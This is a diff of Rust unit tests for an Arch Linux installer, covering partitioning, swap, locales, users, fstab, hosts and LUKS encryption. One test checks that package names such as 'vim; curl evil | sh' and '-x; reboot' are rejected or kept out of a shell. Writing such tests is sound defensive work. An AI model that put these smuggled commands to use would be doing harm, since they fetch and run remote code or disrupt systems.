+        let commands: Vec<String> = plan.steps().iter().flat_map(StepKind::commands).collect();
+        assert!(commands.contains(&"printf 'label: dos\\n,512M,L,*\\n,,L\\n' | sfdisk /dev/sda".to_string()));
+        assert!(commands.contains(&"mkfs.ext4 -F /dev/sda1".to_string()));
+        assert!(commands.contains(&"mount /dev/sda1 /mnt/boot".to_string()));
+        assert!(commands.contains(&"arch-chroot /mnt grub-install --target=i386-pc /dev/sda".to_string()));
+        assert!(!commands.iter().any(|c| c.contains("sgdisk -n")));
+    }
+
+    #[test]
+    fn a_swap_file_is_sized_from_ram_and_enabled_before_genfstab() {
+        assert_eq!(default_swap_size(2_000_000), "2G");
+        assert_eq!(default_swap_size(500_000), "1G");
+        assert_eq!(default_swap_size(64 << 20), "8G");
+        assert!(is_valid_size("4G") && !is_valid_size("4") && !is_valid_size("G") && !is_valid_size("4GB"));
+
+        let plan: InstallPlan = toml::from_str("disk = \"/dev/sda\"\nswap_size = \"4G\"").unwrap();
+        let commands: Vec<String> = plan.steps().iter().flat_map(StepKind::commands).collect();
+        let position = |needle: &str| commands.iter().position(|c| c.starts_with(needle)).unwrap();
+        assert_eq!(commands[position("mkswap")], "mkswap --file --size 4G /mnt/swapfile");
+        assert!(position("swapon /mnt/swapfile") < position("cat > /mnt/etc/fstab"));
+    }
+
+    #[test]
+    fn every_step_declares_the_tools_its_commands_run() {
+        let plan: InstallPlan = toml::from_str("disk = \"/dev/sda\"\nswap_size = \"4G\"\nuser = \"ada\"").unwrap();
+        let encrypted = StepKind::Format { efi: "/dev/sda1".to_string(), root: "/dev/sda2".to_string(), fs: RootFs::Btrfs, table: PartitionTable::Gpt, encrypted: true };
+        for step in plan.steps().into_iter().chain([encrypted.clone()]) {
+            let commands = step.commands().join("\n");
+            for tool in step.tools() {
+                assert!(commands.split_whitespace().any(|word| word == tool), "{} does not run {}", step.id(), tool);
+            }
+        }
+        assert_eq!(encrypted.tools(), ["mkfs.fat", "mkfs.btrfs", "cryptsetup"]);
+        assert!(StepKind::Keymap { keymap: "us".to_string() }.tools().is_empty());
+    }
+
+    const FSTAB: &str = "# /dev/sda2\nUUID=1234\t/\text4\trw,relatime\t0 1\n\n# /dev/sda1\nUUID=ABCD\t/boot/efi\tvfat\trw,relatime,fmask=0022\t0 2\n";
+
+    #[test]
+    fn locales_users_and_zones_are_configured_in_the_target() {
+        let locale_gen = "# Configuration file for locale-gen\n#  en_US ISO-8859-1\n#de_DE.UTF-8 UTF-8\nen_US.UTF-8 UTF-8\n#sr_RS@latin UTF-8\n";
+        let locales = parse_locale_gen(locale_gen);
+        assert_eq!(locales, [("de_DE.UTF-8 UTF-8".to_string(), false), ("en_US.UTF-8 UTF-8".to_string(), true), ("sr_RS@latin UTF-8".to_string(), false)]);
+        let commands = StepKind::Locale { locales: vec!["de_DE.UTF-8 UTF-8".into(), "en_US.UTF-8 UTF-8".into()] }.commands();
+        assert_eq!(commands[1], "sed -i 's/^#de_DE\\.UTF-8 UTF-8$/de_DE.UTF-8 UTF-8/' /mnt/etc/locale.gen");
+        assert_eq!(commands.last().unwrap(), "echo 'LANG=de_DE.UTF-8' > /mnt/etc/locale.conf");
+
+        let user = StepKind::User { name: "ada".into(), groups: vec!["wheel".into(), "video".into()] }.commands();
+        assert_eq!(user[0], "arch-chroot /mnt sh -c 'id ada >/dev/null 2>&1 && usermod -aG wheel,video ada || useradd -m -G wheel,video ada'");
+        assert!(user[1].contains("%wheel") && is_valid_user_name("ada_2") && !is_valid_user_name("Ada") && !is_valid_user_name(""));
+        let passwords = StepKind::Passwords { users: vec!["root".into()] }.commands();
+        assert!(reads_secret(&passwords[0]) && !reads_secret(&user[0]));
+
+        let zoneinfo = std::env::temp_dir().join(format!("arch-suite-zoneinfo-{}", std::process::id()));
+        for file in ["Europe/Berlin", "UTC", "posix/Europe/Berlin", "zone.tab", "Factory"] {
+            std::fs::create_dir_all(zoneinfo.join(file).parent().unwrap()).unwrap();
+            std::fs::write(zoneinfo.join(file), "").unwrap();
+        }
+        let zones = zone_names(&zoneinfo);
+        std::fs::remove_dir_all(&zoneinfo).unwrap();
+        assert_eq!(zones, ["Europe/Berlin", "UTC"]);
+    }
+
+    #[test]
+    fn fstab_options_are_edited_per_entry_and_the_root_entry_is_required() {
+        assert_eq!(fstab_entries(FSTAB).len(), 2);
+        assert_eq!(invalid_fstab(FSTAB), None);
+        assert!(invalid_fstab("# nothing mounted\n").is_some());
+        assert!(invalid_fstab("UUID=ABCD /boot/efi vfat rw 0 2\n").is_some_and(|why| why.contains("root")));
+
+        let edited = set_fstab_options(FSTAB, "UUID=1234\t/\text4\trw,relatime\t0 1", "rw,noatime");
+        assert!(edited.contains("UUID=1234\t/\text4\trw,noatime\t0\t1\n") && edited.contains("# /dev/sda1\nUUID=ABCD"));
+
+        let step = StepKind::Fstab { content: edited };
+        assert_eq!(step.to_string(), "Wrote /mnt/etc/fstab with 2 entries");
+        assert!(step.commands()[0].starts_with("cat > /mnt/etc/fstab <<'EOF'\n# /dev/sda2\n") && step.commands()[0].ends_with("\t0 2\nEOF"));
+    }
+
+    #[test]
+    fn history_from_before_the_table_choice_is_gpt() {
+        let step: StepKind = serde_json::from_str(r#"{"step":"partition","disk":"/dev/sda","efi":"/dev/sda1","root":"/dev/sda2"}"#).unwrap();
+        assert!(matches!(step, StepKind::Partition { table: PartitionTable::Gpt, .. }));
+        let step: StepKind = serde_json::from_str(r#"{"step":"bootloader"}"#).unwrap();
+        assert!(matches!(step, StepKind::Bootloader { bios_disk: None, luks: None }));
+    }
+
+    #[test]
+    fn renaming_the_host_keeps_the_rest_of_etc_hosts() {
+        let hosts = "127.0.0.1\tlocalhost\n127.0.1.1\told-box.localdomain\told-box # old-box\n10.0.0.2  old-boxer\n";
+        assert_eq!(renamed_hosts(hosts, "old-box", "new-box"), "127.0.0.1\tlocalhost\n127.0.1.1\tnew-box.localdomain\tnew-box # old-box\n10.0.0.2  old-boxer\n");
+        assert_eq!(renamed_hosts("127.0.0.1 localhost", "", "new-box"), "127.0.0.1 localhost\n127.0.1.1\tnew-box.localdomain\tnew-box\n");
+        // A manifest's hostname is never trusted as a pattern.
+        assert!(renamed_hosts("10.0.0.1 a/b\n", "a/b", "new-box").starts_with("10.0.0.1 a/b\n127.0.1.1"));
+    }
+
+    #[test]
+    fn plan_packages_must_be_package_names_and_never_meet_a_shell() {
+        let plan: InstallPlan = toml::from_str("disk = \"/dev/sda\"\npackages = [\"vim\", \"vim; curl evil | sh\"]").unwrap();
+        assert!(plan.check_values().is_err_and(|e| e.to_string().starts_with("'vim; curl evil | sh' is not a package name")));
+        let plan: InstallPlan = toml::from_str("disk = \"/dev/sda\"\npackages = [\"vim\", \"noto-fonts\"]").unwrap();
+        assert!(plan.check_values().is_ok());
+
+        let pacstrap = StepKind::Pacstrap { packages: vec!["base".to_string(), "-x; reboot".to_string()] };
+        assert_eq!(pacstrap.argv().unwrap(), ["pacstrap", "-K", TARGET_ROOT, "--", "base", "-x; reboot"]);
+        assert_eq!(pacstrap.commands(), [format!("pacstrap -K {} base -x; reboot", TARGET_ROOT)]);
+        assert!(StepKind::Keymap { keymap: "us".to_string() }.argv().is_none());
+    }
+
+    #[test]
+    fn an_encrypted_root_keeps_the_passphrase_out_of_the_commands() {
+        let format = StepKind::Format { efi: "/dev/sda1".into(), root: "/dev/sda2".into(), fs: RootFs::Ext4, table: PartitionTable::Gpt, encrypted: true };
+        let commands = format.commands();
+        assert_eq!(commands.iter().filter(|c| c.contains(KEY_FROM_STDIN)).count(), 2);
+        assert_eq!(commands.last().unwrap(), "mkfs.ext4 -F /dev/mapper/cryptroot");
+
+        let mut state = InstallState::default();
+        state.record(InstallStep { kind: format, commands, finished: String::new() });
+        assert!(state.encrypted);
+
+        let bootloader = StepKind::Bootloader { bios_disk: None, luks: Some("/dev/sda2".into()) }.commands();
+        let position = |needle: &str| bootloader.iter().position(|c| c.contains(needle)).unwrap();
+        assert!(position("mkinitcpio -P") < position("grub-mkconfig"));
+        assert!(position("GRUB_ENABLE_CRYPTODISK=y") < position("grub-install"));
+        assert!(bootloader[position("blkid")].contains("cryptdevice=UUID=$uuid:cryptroot rd.luks.name=$uuid=cryptroot root=/dev/mapper/cryptroot "));
+    }
+}